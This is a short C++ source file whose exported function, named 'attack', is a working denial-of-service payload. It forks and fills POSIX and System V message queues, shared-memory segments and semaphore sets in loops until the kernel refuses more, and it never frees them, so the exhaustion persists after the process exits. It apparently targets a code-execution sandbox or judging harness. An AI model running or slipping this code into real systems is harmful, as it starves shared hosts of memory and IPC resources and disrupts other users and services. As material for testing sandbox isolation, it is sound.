#include <cstdio>
#include <cstring>
#include <fcntl.h>
#include <mqueue.h>
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <unistd.h>

static const long SIZE = 8 << 20;
static struct {
    long type = 1;
    char text[8192];
} message;

static void fill_queues() {
    char name[32];
    for (int i = 0, queue = 0; queue >= 0; i++) {
        snprintf(name, sizeof name, "/q%d", i);
        queue = mq_open(name, O_CREAT | O_WRONLY | O_NONBLOCK, 0600, nullptr);
        while (queue >= 0 && mq_send(queue, message.text, sizeof message.text, 0) == 0) {
        }
    }
    for (int queue; (queue = msgget(IPC_PRIVATE, 0600)) >= 0;)
        while (msgsnd(queue, &message, sizeof message.text, IPC_NOWAIT) == 0) {
        }
}

static void fill_segments() {
    for (int segment; (segment = shmget(IPC_PRIVATE, SIZE, 0600)) >= 0;) {
        void *map = shmat(segment, nullptr, 0);
        if (map == reinterpret_cast<void *>(-1))
            break;
        memset(map, 1, SIZE);
        shmdt(map);
        semget(IPC_PRIVATE, 1000, 0600);
    }
}

extern "C" long attack(long n) {
    if (fork() == 0) {
        fill_queues();
        _exit(0);
    }
    fill_segments();
    return n;
}
